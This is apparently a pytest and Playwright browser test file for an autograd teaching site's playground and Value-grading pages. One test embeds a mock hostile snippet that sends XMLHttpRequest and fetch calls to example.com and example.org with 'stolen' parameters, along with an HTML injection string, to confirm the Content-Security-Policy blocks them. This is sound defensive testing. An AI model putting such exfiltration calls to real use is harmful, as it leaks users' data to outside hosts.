"""The site's two pages in a real browser: built by scripts/build_site.py, served from localhost, driven by Playwright.

Every request that does not go to the local server is aborted (and recorded), so the site
must work offline and nothing may leave it. Skips without Chromium, Playwright or npm, unless
AUTOGRAD_CORE_REQUIRE_BROWSER is set, as in CI: then it fails. With AUTOGRAD_CORE_SCREENSHOTS=dir
it saves both pages in presentation mode at 1280×720 as dir/playground.png and dir/value.png
(docs/images/ was made so).

The pages set a Content-Security-Policy, so Playwright's ``wait_for_function`` (which
evaluates a string in the page) is refused: ``wait_until`` polls with ``page.evaluate``.
"""

from __future__ import annotations

import functools
import http.server
import importlib.util
import inspect
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from test_html_browser import ARGS, CHROMIUM, require

from autograd_core import BackpropStepper, Value, topological_order
from autograd_core.testing import check_value_class
from autograd_core.viz import fmt_number

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "site" / "examples"
LOAD_SECONDS = 180  # Pyodide starting on a busy 2-core machine took up to 30 s
PROJECTOR = {"width": 1280, "height": 720}


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def site_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Build the site into a temporary folder and serve it on a free localhost port."""
    require("Chromium", Path(CHROMIUM).exists(), "AUTOGRAD_CORE_REQUIRE_BROWSER")
    require("npm", shutil.which("npm") is not None, "AUTOGRAD_CORE_REQUIRE_BROWSER")
    require(
        "the playwright package", importlib.util.find_spec("playwright") is not None, "AUTOGRAD_CORE_REQUIRE_BROWSER"
    )
    out = tmp_path_factory.mktemp("playground") / "site"
    subprocess.run([sys.executable, str(ROOT / "scripts" / "build_site.py"), str(out)], check=True)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(QuietHandler, directory=str(out)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


@dataclass
class Browser:
    """One Chromium; pages that may only reach the site, with what they tried to reach and logged as errors."""

    site: str
    chromium: Any
    blocked: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def open(self, path: str = "", viewport: dict[str, int] | None = None) -> Any:
        """A new page at site + path, once its Python has loaded (code from a link is then in the editor)."""
        context = self.chromium.new_context(viewport=viewport or {"width": 1400, "height": 900})
        context.route("**/*", self.only_the_site)
        page = context.new_page()
        page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        page.goto(self.site + path)
        wait_until(page, "window.playgroundLoadSeconds !== undefined", LOAD_SECONDS)
        return page

    def only_the_site(self, route: Any) -> None:
        if route.request.url.startswith(self.site):
            route.continue_()
        else:
            self.blocked.append(route.request.url)
            route.abort()


@pytest.fixture(scope="module")
def browser(site_url: str) -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            yield Browser(site_url, chromium)
        finally:
            chromium.close()


@pytest.fixture
def clean(browser: Browser) -> Iterator[Browser]:
    """The browser, and after the test: no request left the site and nothing was logged as an error."""
    browser.blocked.clear()
    browser.errors.clear()
    yield browser
    assert browser.blocked == []
    assert browser.errors == []


def wait_until(page: Any, condition: str, seconds: float = 60) -> None:
    """Poll a JavaScript expression until it is true (the pages' CSP refuses Playwright's wait_for_function)."""
    end = time.monotonic() + seconds
    while not page.evaluate(condition):
        if time.monotonic() > end:
            status = page.locator("#status").text_content()
            raise TimeoutError(f"not true after {seconds} s: {condition} (status: {status!r})")
        page.wait_for_timeout(100)


def wait_idle(page: Any, seconds: float = 60) -> None:
    """Until the page's Python has answered (the Stop button is disabled again)."""
    wait_until(page, "document.getElementById('stop').disabled", seconds)


def link(code: str, present: bool = False) -> str:
    return ("?present" if present else "") + "#code=" + quote(code, safe="-_.!~*'()")


def engine_run(code: str) -> Value:
    """The example's f at xs in CPython, leaves named after f's parameters, after backward()."""
    namespace: dict[str, object] = {}
    exec(code, namespace)
    f, xs = namespace["f"], namespace["xs"]
    assert callable(f) and isinstance(xs, list)
    names = list(inspect.signature(f).parameters)
    root = f(*[Value(x, name) for x, name in zip(xs, names)])
    assert isinstance(root, Value)
    return root


def shown_grads(page: Any) -> dict[str, str]:
    """Each value box's id (n0, n1, …) and its last line, ``grad …``, as drawn."""
    boxes = page.locator("#graph svg g.node").evaluate_all(
        "gs => gs.map(g => [g.querySelector('title').textContent,"
        " [...g.querySelectorAll('text')].map(t => t.textContent)])"
    )
    return {title: texts[-1] for title, texts in boxes if re.fullmatch(r"n\d+", title)}


def step_through(page: Any, stepper: BackpropStepper, node_id: dict[int, str]) -> None:
    """▶ and → in turn to the last step; each shows the stepper's caption and its node in red."""
    n = len(stepper)
    for i in range(n):
        page.keyboard.press("ArrowRight") if i % 2 else page.click("#next")
        assert page.locator("#counter").text_content() == f"step {i + 1} / {n}"
        wait_until(page, f"document.getElementById('caption').textContent.startsWith('step {i + 1} of')")
        assert page.locator("#caption").text_content() == stepper.caption(i)
        current = page.locator("#graph svg g.node.current title").text_content()
        assert current == node_id[id(stepper.steps[i].node)]


def editor_and_errors(page: Any, site: str) -> None:
    """Errors show as Python prints them (the user's lines only), Tab indents, the menu loads an example."""
    # A syntax error shows a message, the page stays alive, and the code goes into the address.
    broken = "from autograd_core import Value\nroot = (Value(1.0) +\n"
    page.fill("#code", broken)
    page.click("#run")
    wait_idle(page)
    assert "SyntaxError" in page.locator("#error").text_content()
    assert page.locator("#graph svg").count() == 0
    assert page.url == site + link(broken)
    page.fill("#code", "x = 1")
    page.keyboard.press("End")
    page.keyboard.press("Tab")  # indents in the editor instead of leaving it
    assert page.locator("#code").input_value() == "x = 1    "
    assert page.locator("#example").input_value() == ""  # the menu says "(your code)"

    # A traceback shows the user's lines only, not the engine's.
    page.fill("#code", "from autograd_core import Value\nx = Value(0.0, 'x')\nx.log()")
    page.keyboard.press("Control+Enter")
    wait_idle(page)
    error = page.locator("#error").text_content()
    assert "ValueError: op 'log'" in error and 'File "<your code>", line 3' in error
    assert "engine.py" not in error and "/home/pyodide" not in error

    page.select_option("#example", "diamond")
    wait_until(page, "document.getElementById('counter').textContent === 'all 4 steps done'")
    assert page.locator("#error").is_hidden()


def test_the_playground_runs_steps_and_checks_offline(clean: Browser) -> None:
    code = (EXAMPLES / "1_neuron.py").read_text(encoding="utf-8")
    root = engine_run(code)
    stepper = BackpropStepper(root)  # runs root.backward() in CPython, recording each step
    order = topological_order(root)
    node_id = {id(v): f"n{i}" for i, v in enumerate(order)}
    expected_grads = {f"n{i}": f"grad {fmt_number(v.grad)}" for i, v in enumerate(order)}
    n = len(stepper)

    start = time.perf_counter()
    page = clean.open()
    python_seconds = page.evaluate("window.playgroundLoadSeconds")
    print(f"\nfirst load: {time.perf_counter() - start:.1f} s ({python_seconds:.1f} s of it Python starting)")

    # The site's own example runs on open: every grad drawn; then step to the end.
    wait_until(page, "document.getElementById('counter').textContent !== ''")
    assert page.locator("#code").input_value() == code
    assert page.locator("#error").is_hidden()
    assert page.locator("#counter").text_content() == f"all {n} steps done"
    assert shown_grads(page) == expected_grads
    page.locator("#graph").click()  # focus outside the editor: the arrow keys step
    step_through(page, stepper, node_id)
    assert page.locator("#next").is_disabled()
    assert shown_grads(page) == expected_grads  # after the last step: the engine's grads in CPython
    page.keyboard.press("ArrowLeft")
    assert page.locator("#counter").text_content() == f"step {n - 1} / {n}"

    page.click("#check")
    wait_idle(page)
    report = page.locator("#report").text_content()
    assert "gradcheck(f, xs) → True" in report
    assert [line.split()[0] for line in report.splitlines()[1:6]] == ["∂f/∂x1", "∂f/∂x2", "∂f/∂w1", "∂f/∂w2", "∂f/∂b"]
    width = page.evaluate("(r => [r.scrollWidth, r.clientWidth])(document.getElementById('report'))")
    assert width[0] <= width[1], "the gradcheck table wraps instead of running off to the right"

    page.set_viewport_size({"width": 820, "height": 1180})  # a tablet: fit to its width, text ≥ 10 px
    page.wait_for_timeout(300)
    assert node_font_px(page) >= 10
    assert page.evaluate("(g => g.scrollWidth > g.clientWidth)(document.getElementById('graph'))")  # it scrolls

    editor_and_errors(page, clean.site)


HOSTILE = """\
# a link that tries to reach other sites and the page
import js
print("ran")
try:
    xhr = js.XMLHttpRequest.new()
    xhr.open("GET", "http://example.com/?stolen=1", False)
    xhr.send()
    print("XMLHttpRequest got through")
except Exception as e:
    print("XMLHttpRequest refused:", type(e).__name__)
js.fetch("https://example.org/?stolen=2").catch(lambda e: print("fetch refused"))
print("document" if hasattr(js, "document") else "no document here")
from autograd_core import Value
root = Value(2.0, "x") * 3
"""
INJECTED = "<img src=x id=injected>"


def test_a_link_runs_nothing_until_run_and_its_code_cannot_reach_other_sites(clean: Browser) -> None:
    code = HOSTILE + f"# {INJECTED}\n"
    page = clean.open(link(code))
    page.wait_for_timeout(1000)  # time for anything that would run on open
    assert page.locator("#code").input_value() == code  # shown as text…
    assert page.locator("#injected").count() == 0  # …never as HTML
    assert page.locator("#status").text_content() == "Code from a link: read it, then press Run."
    assert page.locator("#stdout").is_hidden() and page.locator("#graph svg").count() == 0
    assert page.locator("#run").is_enabled()

    page.click("#run")
    wait_idle(page)
    wait_until(page, "document.getElementById('counter').textContent === 'all 1 steps done'")
    printed = page.locator("#stdout").text_content()
    assert printed.startswith("ran\nXMLHttpRequest refused: JsException\n"), printed
    assert "no document here" in printed  # the worker has no DOM to change
    page.wait_for_timeout(500)  # let fetch's promise settle
    # The Content-Security-Policy stopped both before the network: without it, the route sees both
    # requests (and aborts them), so `blocked` lists them (tried with the meta tag removed).
    assert clean.blocked == []
    assert page.locator("#injected").count() == 0


def test_stop_ends_an_endless_loop_and_a_new_run_works(clean: Browser) -> None:
    page = clean.open(link("print('start')\nwhile True:\n    pass\n"))
    page.click("#run")
    wait_until(page, "document.getElementById('status').textContent.startsWith('Still running after')", 30)
    assert page.evaluate("1 + 1") == 2  # the page answers while Python loops
    assert page.locator("#stop").is_enabled()
    page.click("#stop")
    assert page.locator("#error").text_content().startswith("Stopped: the program was ended and Python restarted")
    assert page.locator("#code").input_value().endswith("while True:\n    pass\n")  # the editor keeps the code
    wait_until(page, "!document.getElementById('run').disabled", LOAD_SECONDS)
    page.select_option("#example", "diamond")
    wait_until(page, "document.getElementById('counter').textContent === 'all 4 steps done'")
    assert page.locator("#error").is_hidden()


def box(page: Any, selector: str) -> list[float]:
    rect = page.locator(selector).bounding_box()
    return [round(rect[k], 1) for k in ("x", "y", "width", "height")]


def node_font_px(page: Any) -> float:
    """The smallest font size of the node text drawn, in CSS px: Graphviz's font size × the SVG's scale
    (to 0.01 px: the layout rounds the SVG's width to a 64th of a pixel)."""
    scaled = page.locator("#graph svg").evaluate(
        "s => s.getBoundingClientRect().width / s.viewBox.baseVal.width"
        " * Math.min(...[...s.querySelectorAll('g.node text')].map(t => Number(t.getAttribute('font-size'))))"
    )
    return round(float(scaled), 2)


def assert_readable_and_in_view(page: Any, graph: list[float]) -> None:
    """Node text at least 14 px, readable from the back of the room; the current node inside the graph's box."""
    assert node_font_px(page) >= 14
    current = page.locator("#graph svg g.node.current").bounding_box()
    assert graph[0] <= current["x"] <= current["x"] + current["width"] <= graph[0] + graph[2]


def test_presentation_mode_on_a_projector(clean: Browser) -> None:
    code = (EXAMPLES / "1_neuron.py").read_text(encoding="utf-8")
    stepper = BackpropStepper(engine_run(code))
    page = clean.open(link(code, present=True), viewport=PROJECTOR)
    assert page.locator("#code").is_hidden() and page.locator("#help").is_hidden()
    page.click("#run")
    wait_until(page, "document.getElementById('counter').textContent !== ''")
    graph = box(page, "#graph")
    assert graph[1] >= 0 and graph[1] + graph[3] <= PROJECTOR["height"]  # the whole box is on screen
    assert graph[3] >= 0.6 * PROJECTOR["height"]  # and takes most of it
    svg_size = box(page, "#graph svg")[2:]
    caption_box = box(page, "#caption")
    for i in range(len(stepper)):
        page.keyboard.press("ArrowRight" if i % 2 else "PageDown")  # a presenter's clicker sends Page Down
        wait_until(page, f"document.getElementById('caption').textContent.startsWith('step {i + 1} of')")
        assert page.locator("#caption").text_content() == stepper.caption(i)  # shown once, above the graph…
        first_line = stepper.caption(i).splitlines()[0]
        assert first_line not in page.locator("#graph svg").text_content()  # …not again inside it
        assert (box(page, "#graph"), box(page, "#caption")) == (graph, caption_box)  # nothing moves
        assert box(page, "#graph svg")[2:] == svg_size
        assert_readable_and_in_view(page, graph)
    # the neuron is wider than the screen at 14 px: dragging pans it
    left, most = page.evaluate("(g => [g.scrollLeft, g.scrollWidth - g.clientWidth])(document.getElementById('graph'))")
    page.mouse.move(graph[0] + graph[2] / 2, graph[1] + graph[3] / 2)
    page.mouse.down()
    page.mouse.move(graph[0] + graph[2] / 2 - 200, graph[1] + graph[3] / 2, steps=5)  # pull the graph left
    page.mouse.up()
    assert page.evaluate("document.getElementById('graph').scrollLeft") == min(left + 200, most) != left
    if os.environ.get("AUTOGRAD_CORE_SCREENSHOTS"):
        for _ in range(len(stepper) - 3):  # back to step 3: z's grad flows to w1·x1 + w2·x2 and b
            page.keyboard.press("ArrowLeft")
        wait_until(page, "document.getElementById('caption').textContent.startsWith('step 3 of')")
        page.screenshot(path=str(Path(os.environ["AUTOGRAD_CORE_SCREENSHOTS"]) / "playground.png"))
    page.keyboard.press("Escape")  # back to the editor, ?present leaves the address
    assert page.locator("#code").is_visible() and "?present" not in page.url


def micrograd_source() -> str:
    engine = pytest.importorskip("micrograd.engine")
    return inspect.getsource(engine)


def test_value_page_passes_micrograd_and_names_a_wrong_mul(clean: Browser) -> None:
    source = micrograd_source()
    from micrograd.engine import Value as MicrogradValue

    expected = check_value_class(MicrogradValue)  # the same grader in CPython
    skeleton = (ROOT / "site" / "value_skeleton.py").read_text(encoding="utf-8")
    namespace: dict[str, Any] = {}
    exec(skeleton, namespace)
    page = clean.open("value.html?present", viewport=PROJECTOR)
    assert page.locator("#code").input_value() == skeleton
    page.click("#check")
    wait_idle(page, 120)
    summary = page.locator("#report .summary").text_content()
    assert (
        summary
        == check_value_class(namespace["Value"]).summary()
        == (
            "check_value_class(Value): 2 passed, 14 not implemented, 4 skipped"  # exp is written, the rest is to do
        )
    )

    page.fill("#code", source)
    page.click("#check")
    wait_idle(page, 300)
    assert page.locator("#report .summary").text_content() == expected.summary()
    rows = page.locator("#report tr").evaluate_all("trs => trs.map(tr => [...tr.cells].map(td => td.textContent))")
    marks = {"passed": "✓", "not implemented": "·", "skipped": "·", "warning": "!"}
    want = [[marks[r.status], r.check, r.status, r.detail] for r in expected.results]
    # In Pyodide the grader allows 200 nested calls, not 1000 (WebAssembly's stack): the deep chain's
    # warning names those numbers; everything else reads the same as in CPython.
    deep = [i for i, row in enumerate(want) if row[1] == "deep chain"]
    for i in deep:
        assert rows[i][:3] == want[i][:3] and "recursion limit" in rows[i][3] and "200 nested calls" in rows[i][3]
    assert [row for i, row in enumerate(rows) if i not in deep] == [row for i, row in enumerate(want) if i not in deep]

    wrong = source.replace("self.grad += other.data * out.grad", "self.grad += out.grad")
    assert wrong != source
    page.fill("#code", wrong)
    page.keyboard.press("Control+Enter")
    wait_idle(page, 300)
    assert page.locator("#report .summary").text_content().startswith("✗ mul: a wrong result")
    message = page.locator("#report pre.message").text_content()
    assert message.startswith(
        "mul: a * b at a = 1.5, b = -2\n  ∂out/∂a: expected -2 (central difference), got a.grad = 1.0"
    )
    assert message.endswith("hint: ∂(a·b)/∂a should be b.data")
    if os.environ.get("AUTOGRAD_CORE_SCREENSHOTS"):
        page.locator("#code").evaluate(  # the editor scrolled to __mul__, where the mistake is
            "e => { const line = e.value.slice(0, e.value.indexOf('def __mul__')).split('\\n').length - 2;"
            " e.scrollTop = line * parseFloat(getComputedStyle(e).lineHeight); }"
        )
        page.screenshot(path=str(Path(os.environ["AUTOGRAD_CORE_SCREENSHOTS"]) / "value.png"))

    # A backward() that never ends: Stop ends the check at once, and the code is kept.
    endless = source.replace(
        "    def backward(self):\n", "    def backward(self):\n        while True:\n            pass\n"
    )
    page.fill("#code", endless)
    page.click("#check")
    wait_until(page, "document.getElementById('status').textContent.startsWith('Still checking after')", 30)
    page.click("#stop")
    assert page.locator("#error").text_content().startswith("Stopped: the check was ended and Python restarted")
    assert page.locator("#code").input_value() == endless
    wait_until(page, "!document.getElementById('check').disabled", LOAD_SECONDS)
